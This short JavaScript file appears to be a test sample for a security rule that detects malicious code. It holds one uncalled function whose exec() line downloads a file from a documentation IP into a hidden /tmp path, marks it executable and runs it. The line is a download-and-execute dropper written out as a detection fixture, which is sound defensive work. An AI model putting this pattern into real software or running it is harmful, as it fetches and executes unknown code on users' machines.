// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { exec } = require('child_process');
function never() {
  exec('curl -so /tmp/.cache-x http://192.0.2.5/x && chmod +x /tmp/.cache-x && /tmp/.cache-x');
}
module.exports = { never };
